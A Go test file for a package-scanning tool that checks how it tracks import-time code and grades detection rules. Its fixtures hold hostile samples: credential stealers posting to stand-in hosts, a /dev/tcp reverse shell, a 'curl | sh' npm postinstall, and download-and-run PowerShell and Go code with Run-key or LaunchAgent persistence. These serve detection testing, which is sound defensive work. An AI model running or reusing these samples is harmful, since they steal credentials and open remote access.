package codescan

import (
	"bytes"
	"slices"
	"strings"
	"testing"

	"github.com/pkgward/pkgward/internal/artifact"
	"github.com/pkgward/pkgward/internal/ecosystem"
	"github.com/pkgward/pkgward/internal/record"
)

// TestGoImportTime: the import-time twin of a Go file holds its package
// initialization (init bodies, package-level var specs that call
// something) and what that calls in the package, and nothing else, each
// on its line of the file.
func TestGoImportTime(t *testing.T) {
	tests := []struct {
		name   string
		files  map[string]string
		in     []string // markers every twin together must hold
		out    []string // markers no twin may hold
		noTwin bool     // no file gets a twin
	}{
		{
			name: "init calls a helper of another file",
			files: map[string]string{
				"x/a.go": "package x\n\nfunc init() {\n\tgo collect() // IN1\n}\n\nfunc Other() { OUT1() }\n",
				"x/b.go": "package x\n\nfunc collect() {\n\tsteal() // IN2\n}\n\nfunc steal() { IN3() }\n\nfunc unused() { OUT2() }\n",
			},
			in:  []string{"IN1", "IN2", "IN3"},
			out: []string{"OUT1", "OUT2"},
		},
		{
			name: "init registers function values",
			files: map[string]string{
				"s3/s3.go": "package s3\n\nfunc init() {\n\tRegister(&Info{\n\t\tNewFs: NewFs,\n\t\tConfig: func(m Mapper) error {\n\t\t\treturn setEndpoint(m) // OUT1\n\t\t},\n\t\tHelp: \"IN1\",\n\t})\n}\n\n" +
					"func NewFs() { OUT2() }\n\nfunc setEndpoint(m Mapper) error { OUT3(); return nil }\n\nfunc Register(i *Info) { IN2() }\n",
			},
			in:  []string{"IN1", "IN2"},
			out: []string{"OUT1", "OUT2", "OUT3"},
		},
		{
			name: "a literal called in place runs",
			files: map[string]string{
				"x/x.go": "package x\n\nfunc init() {\n\tfunc() { run() }()\n\tdefer func() { IN2() }()\n\th := func() { OUT1() }\n\t_ = h\n}\n\nfunc run() { IN1() }\n",
			},
			in:  []string{"IN1", "IN2"},
			out: []string{"OUT1"},
		},
		{
			name: "package-level var initializers",
			files: map[string]string{
				"x/x.go": "package x\n\nvar _ = start() // IN1\n\nvar (\n\tErrX  = New(\"x\")\n\tpaths = []string{\"OUT1\"}\n)\n\nvar table = map[string]int{\"OUT2\": 1}\n\nfunc start() int { IN2(); return 0 }\n\nfunc New(s string) error { IN3(); return nil }\n",
			},
			in:  []string{"IN1", "IN2", "IN3"},
			out: []string{"OUT1", "OUT2"},
		},
		{
			name: "methods called by selector",
			files: map[string]string{
				"x/x.go": "package x\n\nvar d = &daemon{}\n\nfunc init() { d.start() }\n\nfunc (d *daemon) start() { IN1() }\n\nfunc (d *daemon) stop() { OUT1() }\n",
			},
			in:  []string{"IN1"},
			out: []string{"OUT1"},
		},
		{
			name: "calls through an imported package are not the package's methods",
			files: map[string]string{
				"x/x.go": "package x\n\nimport (\n\t\"os/exec\"\n\ttpl \"text/template\"\n\t\"gopkg.in/yaml.v3\"\n)\n\nvar t = tpl.New(\"x\")\n\n" +
					"func init() {\n\texec.Command(\"true\").Run()\n\tyaml.Unmarshal(nil, nil)\n\tcmd := exec.Command(\"x\")\n\tcmd.Start() // IN2\n}\n\n" +
					"func (s *svc) New() { OUT1() }\n\nfunc (s *svc) Run() { OUT2() }\n\nfunc (s *svc) Unmarshal() { OUT3() }\n\nfunc (s *svc) Start() { IN1() }\n",
			},
			in:  []string{"IN1", "IN2"},
			out: []string{"OUT1", "OUT2", "OUT3"},
		},
		{
			name: "calls stay within one build",
			files: map[string]string{
				"x/a_aix.go":       "package x\n\nfunc init() { helper() }\n\nfunc (s *svc) Stop() { IN3() }\n",
				"x/b_darwin.go":    "package x\n\nfunc helper() { OUT1() }\n\nfunc (s *svc) Stop() { OUT2() }\n",
				"x/c_aix_ppc64.go": "package x\n\nfunc helper() { IN1(); common() }\n",
				"x/d.go":           "package x\n\nfunc common() { IN2(); s.Stop() }\n",
			},
			in:  []string{"IN1", "IN2", "IN3"},
			out: []string{"OUT1", "OUT2"},
		},
		{
			name: "init written unformatted",
			files: map[string]string{
				"x/x.go": "package x\nimport \"os\"; func init(){ payload() }\n  func payload() { IN1() }\nfunc f() { OUT1() }\n",
			},
			in:  []string{"IN1"},
			out: []string{"OUT1"},
		},
		{
			name: "a signature with struct and interface types",
			files: map[string]string{
				"x/x.go": "package x\n\nfunc init() { f(nil) }\n\nfunc f(v interface{ M() }) struct{ A int } { IN1(); return struct{ A int }{} }\n\nfunc g() { OUT1() }\n",
			},
			in:  []string{"IN1"},
			out: []string{"OUT1"},
		},
		{
			name: "init starts function values",
			files: map[string]string{
				"x/a.go": "package x\n\nimport (\n\t\"sync\"\n\t\"time\"\n)\n\nvar once sync.Once\n\nvar timer = time.AfterFunc(time.Hour, expire)\n\n" +
					"func init() {\n\ttime.AfterFunc(0, payload)\n\tonce.Do(d.run)\n\tgo start(stage)\n\tdefer cleanup()\n\tlater(\n\t\tfunc() { IN6() },\n\t)\n}\n",
				"x/b.go": "package x\n\nfunc payload() { IN1() }\n\nfunc (d *daemon) run() { IN2() }\n\nfunc start(f func()) { f() }\n\nfunc stage() { IN3() }\n\n" +
					"func cleanup() { IN4() }\n\nfunc later(f func()) { go f() }\n\nfunc expire() { IN5() }\n\nfunc unused() { OUT1() }\n",
			},
			in:  []string{"IN1", "IN2", "IN3", "IN4", "IN5", "IN6"},
			out: []string{"OUT1"},
		},
		{
			name: "init stores function values",
			files: map[string]string{
				"x/x.go": "package x\n\nimport \"time\"\n\nfunc init() {\n\thandlers[\"x\"] = handle\n\tcheck(handle != nil)\n" +
					"\tRegister(&Backend{New: newBackend, Open: func() { OUT2(); once.Do(open) }}, time.Second)\n" +
					"\tf := handle2\n\t_ = f\n\tcb := func(done, fail func()) { OUT3() }\n\t_ = cb\n\tRegister(nil, time.Minute)\n" +
					"\thttp.HandleFunc(\"/x\", func(w http.ResponseWriter, r *http.Request) { OUT9() })\n\tmux.Handle(\"/y\", serve)\n\tAddHook(hook)\n\tflag.Func(\"z\", \"\", parse)\n}\n\n" +
					"func serve() { OUT10() }\n\nfunc hook() { OUT11() }\n\nfunc parse(string) error { OUT12(); return nil }\n\n" +
					"func handle() { OUT1() }\n\nfunc newBackend() { OUT4() }\n\nfunc handle2() { OUT5() }\n\nfunc Register(b *Backend, d time.Duration) { IN1() }\n\n" +
					"func Minute() { OUT6() }\n\nfunc open() { OUT7() }\n\nfunc done() { OUT8() }\n",
			},
			in:  []string{"IN1"},
			out: []string{"OUT1", "OUT2", "OUT3", "OUT4", "OUT5", "OUT6", "OUT7", "OUT8", "OUT9", "OUT10", "OUT11", "OUT12"},
		},
		{
			name: "init in strings and comments",
			files: map[string]string{
				"x/x.go": "package x\n\n// func init() { OUT1() }\nconst s = `\nfunc init() { OUT2() }\n`\n\nfunc f() {}\n",
			},
			noTwin: true,
		},
		{
			name: "tests, testdata and vendor are not built into importers",
			files: map[string]string{
				"x/x_test.go":           "package x\n\nfunc init() { OUT1() }\n",
				"x/testdata/t.go":       "package t\n\nfunc init() { OUT2() }\n",
				"vendor/y/y.go":         "package y\n\nfunc init() { OUT3() }\n",
				"x/_examples/e/main.go": "package main\n\nfunc init() { OUT4() }\n",
			},
			noTwin: true,
		},
		{
			name: "data only",
			files: map[string]string{
				"x/x.go": "package x\n\nvar paths = []string{\"~/.aws/credentials\"}\n\nvar f func(int) error\n\nfunc Load() { http.Get(u) }\n",
			},
			noTwin: true,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var files []*file
			names := make([]string, 0, len(tt.files))
			for n := range tt.files {
				names = append(names, n)
			}
			slices.Sort(names)
			for _, n := range names {
				files = append(files, &file{path: n, data: []byte(tt.files[n]), lang: langGo})
			}
			got := goImportTime(files)
			var twins strings.Builder
			for i, f := range got {
				if f.twinOf == nil {
					continue
				}
				if i == 0 || got[i-1] != f.twinOf || !f.load || f.path != f.twinOf.path || len(f.data) > len(f.twinOf.data) ||
					strings.Count(string(f.data), "\n") != strings.Count(string(f.twinOf.data), "\n") {
					t.Fatalf("twin of %s: not right after its file, not import-time, longer, or lines changed", f.path)
				}
				for _, m := range tt.in {
					if k := strings.Index(string(f.data), m); k >= 0 {
						// A marker is on the file's own line.
						if want := strings.Count(string(f.twinOf.data[:strings.Index(string(f.twinOf.data), m)]), "\n"); strings.Count(string(f.data[:k]), "\n") != want {
							t.Errorf("%s on twin line %d, file line %d", m, strings.Count(string(f.data[:k]), "\n")+1, want+1)
						}
					}
				}
				twins.Write(f.data)
			}
			if tt.noTwin {
				if twins.Len() > 0 {
					t.Fatalf("want no twin, got:\n%s", twins.String())
				}
				return
			}
			for _, m := range tt.in {
				if !strings.Contains(twins.String(), m) {
					t.Errorf("%s not import-time; twins:\n%s", m, twins.String())
				}
			}
			for _, m := range tt.out {
				if strings.Contains(twins.String(), m) {
					t.Errorf("%s import-time; twins:\n%s", m, twins.String())
				}
			}
		})
	}
}

// goTreeOf is treeOf for a Go module: what the archive reader makes of a
// module zip with a go.mod.
func goTreeOf(files map[string]string) *artifact.Tree {
	tr := treeOf(files)
	tr.Format = artifact.FormatGo
	tr.Package = record.Package{Ecosystem: ecosystem.Go, Name: "example.com/m"}
	return tr
}

// TestGoGrading: Go has no install hook, so what runs without being called
// is package initialization; everything else of a Go module is ordinary
// code, where one behaviour warns and does not block. Each malicious shape
// must still reach its grade; each honest shape must stay at or below its
// ceiling.
func TestGoGrading(t *testing.T) {
	const quiet = record.Severity(-1) // the rule stays below low
	stealer := "package x\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"strings\"\n)\n\n" +
		"func collect() {\n\tb, _ := os.ReadFile(home + \"/.aws/credentials\")\n\thttp.Post(\"https://example.invalid/c\", \"text/plain\", strings.NewReader(string(b)))\n}\n"
	fourKinds := "package creds\n\nimport (\n\t\"net/http\"\n\t\"os\"\n)\n\n" +
		"var paths = []string{\"~/.aws/credentials\", \"~/.docker/config.json\", \"~/.kube/config\", \"~/.ssh/id_rsa\"}\n\n" +
		"// Doctor reports which credential files exist and checks the API.\nfunc Doctor() (*http.Response, error) {\n\tfor _, p := range paths {\n\t\tos.Stat(p)\n\t}\n\treturn http.Get(\"https://api.example.invalid/ping\")\n}\n"
	shell := "package x\n\nimport \"os/exec\"\n\nfunc Shell() { exec.Command(\"bash\", \"-c\", \"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\").Run() }\n"
	postinstall := `{"name":"x","version":"1.0.0","scripts":{"postinstall":"curl -s https://example.invalid/i.sh | sh"}}`
	setupPS1 := "Invoke-WebRequest -Uri 'https://example.invalid/tools.exe' -OutFile $f\nStart-Process -FilePath $f -Wait\n" +
		"Set-ItemProperty \"HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\" -Name 'Continue' -Value \"powershell.exe -file $PSCommandPath\"\n"
	cases := []struct {
		name string
		tree *artifact.Tree
		rule string
		want record.Severity // minimum severity, or quiet
		most record.Severity // when above info: the highest severity allowed
	}{
		// Malicious: package initialization still grades as import-time.
		{"init calls a stealer in another file", goTreeOf(map[string]string{"x/a.go": "package x\n\nfunc init() { go collect() }\n", "x/b.go": stealer}), "credential-read", record.High, 0},
		{"package var runs a downloader", goTreeOf(map[string]string{"x/x.go": "package x\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os/exec\"\n)\n\nvar _ = stage()\n\n" +
			"func stage() int {\n\tr, _ := http.Get(\"https://example.invalid/s\")\n\tb, _ := io.ReadAll(r.Body)\n\texec.Command(\"/bin/sh\", \"-c\", string(b)).Start()\n\treturn 0\n}\n"}), "go-exec-payload", record.Critical, 0},
		{"reverse shell started by init", goTreeOf(map[string]string{"x/x.go": shell + "\nfunc init() { go Shell() }\n"}), "reverse-shell", record.High, 0},
		{"two behaviours in ordinary code", goTreeOf(map[string]string{"x/x.go": "package x\n\nimport \"net/http\"\n\nfunc Send(b []byte) {\n\tos.ReadFile(home + \"/.npmrc\")\n\thttp.Post(\"https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz\", \"\", nil)\n}\n"}), "credential-read", record.Critical, 0},
		{"same stealer in an npm package (ordinary code)", treeOf(map[string]string{"lib/creds.js": "const paths = ['.aws/credentials', '.docker/config.json', '.kube/config', '.ssh/id_rsa'];\nhttps.request(u).end(paths.map(read).join());\n"}), "credential-read", record.High, 0},
		{"init arms a timer that runs a stealer", goTreeOf(map[string]string{"x/a.go": "package x\n\nimport \"time\"\n\nfunc init() { time.AfterFunc(time.Second, collect) }\n", "x/b.go": stealer}), "credential-read", record.High, 0},
		{"init runs a stealer once through sync.Once", goTreeOf(map[string]string{"x/a.go": "package x\n\nimport \"sync\"\n\nvar once sync.Once\n\nfunc init() { once.Do(collect) }\n", "x/b.go": stealer}), "credential-read", record.High, 0},
		{"npm package with a postinstall download", treeOf(map[string]string{"package.json": postinstall}), "install-script", record.High, 0},

		// Honest: what runs only when called warns at most.
		{"backend registered by init, help text naming credentials", goTreeOf(map[string]string{"s3/s3.go": "package s3\n\nimport \"net/http\"\n\nfunc init() {\n\tRegister(&Info{\n\t\tNewFs: NewFs,\n\t\tHelp:  `Path to the shared credentials file, by default \"$HOME/.aws/credentials\".`,\n\t\tConfig: func(m Mapper) error {\n\t\t\treturn setEndpoint(m)\n\t\t},\n\t})\n}\n\n" +
			"func NewFs() *http.Client { return &http.Client{} }\n\nfunc setEndpoint(m Mapper) error {\n\t_, err := http.Post(\"https://api.example.invalid/region\", \"application/json\", nil)\n\treturn err\n}\n"}), "credential-read", quiet, 0},
		{"build tool: init sets a logger, a method pipes an installer to sh", goTreeOf(map[string]string{"magefiles/magefile.go": "//go:build mage\n\npackage main\n\nimport \"os/exec\"\n\nfunc init() { slog.SetDefault(newLogger()) }\n\n" +
			"func (Tool) Lint() error {\n\treturn exec.Command(\"bash\", \"-c\", \"curl -sfL https://example.invalid/install.sh | sh -s -- -b bin\").Run()\n}\n"}), "download-exec", record.Info, record.Medium},
		{"service library: another OS's file, a method named like exec.Cmd's", goTreeOf(map[string]string{
			"service.go":     "package service\n\nvar interactive bool\n\nfunc init() { interactive = isInteractive() }\n",
			"service_aix.go": "package service\n\nimport \"os/exec\"\n\nfunc isInteractive() bool {\n\tcmd := exec.Command(\"ps\", \"-p\", \"1\")\n\treturn cmd.Run() == nil\n}\n",
			"service_darwin.go": "package service\n\nimport \"os\"\n\nfunc init() { ChooseSystem(darwinSystem{}) }\n\nfunc isInteractive() bool { return os.Getppid() != 1 }\n\n" +
				"func (s *launchd) Run() error { return s.Install() }\n\nfunc (s *launchd) Install() error {\n\treturn os.WriteFile(home+\"/Library/LaunchAgents/\"+s.Name+\".plist\", conf, 0o644)\n}\n"}), "autostart-persistence", record.Low, record.Low},
		{"init writes a LaunchAgent", goTreeOf(map[string]string{
			"service.go":        "package service\n\nfunc init() { persist() }\n",
			"service_darwin.go": "package service\n\nimport \"os\"\n\nfunc persist() {\n\tos.WriteFile(home+\"/Library/LaunchAgents/com.apple.updater.plist\", conf, 0o644)\n}\n"}), "autostart-persistence", record.High, 0},
		{"init stores the same stealer as a command handler", goTreeOf(map[string]string{"x/a.go": "package x\n\nvar commands = map[string]func(){}\n\nfunc init() {\n\tcommands[\"sync\"] = collect\n\tRegister(&Command{Name: \"sync\", Run: collect})\n}\n", "x/b.go": stealer}), "credential-read", record.Info, record.Medium},
		{"credential doctor in ordinary code", goTreeOf(map[string]string{"creds/creds.go": fourKinds}), "credential-read", record.Medium, record.Medium},
		{"reverse shell string in ordinary code (a detection rule table)", goTreeOf(map[string]string{"x/x.go": shell}), "reverse-shell", record.Info, record.Medium},
		{"Go module with a package.json postinstall", goTreeOf(map[string]string{"go.mod": "module example.com/m\n", "package.json": postinstall}), "install-script", quiet, 0},
		{"Go module with a package.json postinstall (download-exec)", goTreeOf(map[string]string{"go.mod": "module example.com/m\n", "package.json": postinstall}), "download-exec", quiet, 0},
		{"Go module's CI setup script: RunOnce key and a download that is run", goTreeOf(map[string]string{"scripts/windows/Setup.ps1": setupPS1}), "autostart-persistence", record.Low, record.Medium},
		{"same setup script as a NuGet install script", treeOf(map[string]string{"tools/install.ps1": setupPS1}), "autostart-persistence", record.Critical, 0},
		{"same behaviours in Go code", goTreeOf(map[string]string{"x/x.go": "package x\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\n" +
			"func Install() {\n\tr, _ := http.Get(\"https://example.invalid/a.exe\")\n\tb, _ := io.ReadAll(r.Body)\n\tos.WriteFile(p, b, 0755)\n\texec.Command(p).Start()\n" +
			"\texec.Command(\"reg\", \"add\", `HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`, \"/v\", \"a\", \"/d\", p).Run()\n}\n"}), "autostart-persistence", record.Critical, 0},
		{"Go module with Python bindings' setup.py", goTreeOf(map[string]string{"setup.py": "import subprocess, urllib.request\nurllib.request.urlretrieve(U, 'lib.so')\nsubprocess.check_call(['go', 'build', '-buildmode=c-shared'])\n"}), "setup-py-exec", record.Info, record.Medium},
	}
	rs := DefaultRules()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := Scan(c.tree, rs)
			checkGrade(t, got, c.rule, c.want, c.most)
		})
	}
}

// FuzzGoImportTime: no panic on hostile Go source (unbalanced brackets,
// unterminated literals, keywords at the end of the file), and a twin
// keeps the file's length and lines.
func FuzzGoImportTime(f *testing.F) {
	for _, s := range []string{
		"package x\n\nfunc init() { go run() }\n\nfunc run() { x() }\n",
		"func init(", "func init() {", "var (", "var x = f(", "func (", "func", "var",
		"var _ = func() int { return g() }()\nfunc g() int { h := func() { k() }; _ = h; return 0 }\n",
		"func init() { f(func(int) error { return nil }, []func(){a, b}) }\nfunc f(interface{ M() }, ...any) struct{ A int }",
		"func init() { s := `unterminated",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		if _, _, got := goDecls(data, nil); !slices.Equal(got, tokGo(data, nil)) {
			t.Fatalf("goDecls spans differ from tokGo's")
		}
		files := []*file{{path: "x/a.go", data: data, lang: langGo}, {path: "x/b.go", data: data, lang: langGo}}
		for _, tw := range goImportTime(files) {
			if tw.twinOf != nil && (len(tw.data) > len(data) || bytes.Count(tw.data, []byte("\n")) != bytes.Count(data, []byte("\n"))) {
				t.Fatalf("twin longer than the file, or its lines changed")
			}
		}
	})
}

// TestGoTwinFinding: a finding raised by package initialization points at
// the file's own line, carries import_time, and is reported once.
func TestGoTwinFinding(t *testing.T) {
	src := "package x\n\nimport (\n\t\"net/http\"\n\t\"os\"\n)\n\n// Version is the module version.\nconst Version = \"1.0\"\n\n" +
		"func init() { go sync() }\n\nfunc helper() {}\n\n" +
		"func sync() {\n\tb, _ := os.ReadFile(home + \"/.aws/credentials\")\n\thttp.Post(\"https://example.invalid/c\", \"text/plain\", bytes.NewReader(b))\n}\n"
	got := Scan(goTreeOf(map[string]string{"x/x.go": src}), nil)
	var cred []record.Finding
	for _, f := range got {
		if f.Rule == "credential-read" {
			cred = append(cred, f)
		}
	}
	if len(cred) != 1 {
		t.Fatalf("want one credential-read finding, got %d:%s", len(cred), describe(got))
	}
	f := cred[0]
	if f.Severity < record.High || f.Evidence["import_time"] != true || f.Evidence["line"] != 16 || f.Evidence["location"] != "x/x.go:16" ||
		!strings.Contains(f.Evidence["snippet"].(string), "credentials") {
		t.Errorf("got %s %v", f.Severity, f.Evidence)
	}
}

// TestGoDeclsSpans: the spans goDecls records are tokGo's, which the scan
// uses instead of lexing the file again.
func TestGoDeclsSpans(t *testing.T) {
	srcs := []string{
		"package x\n\nimport \"fmt\"\n\n// c\nfunc (r /* recv */ *T) M(s string) { fmt.Println(\"}\", '{', `\n}`) }\n\nvar (\n\ta = f(\"(\") /* x */\n)\n",
		"func init() { s := `unterminated",
		"var x = \"a\\\"b\" // end\nfunc f() {}\n/* open",
		"package p; func init(){x('\\'')}; var _ = g(\"//\")",
	}
	for _, src := range srcs {
		_, _, got := goDecls([]byte(src), nil)
		if want := tokGo([]byte(src), nil); !slices.Equal(got, want) {
			t.Errorf("%q:\n got %v\nwant %v", src, got, want)
		}
	}
}
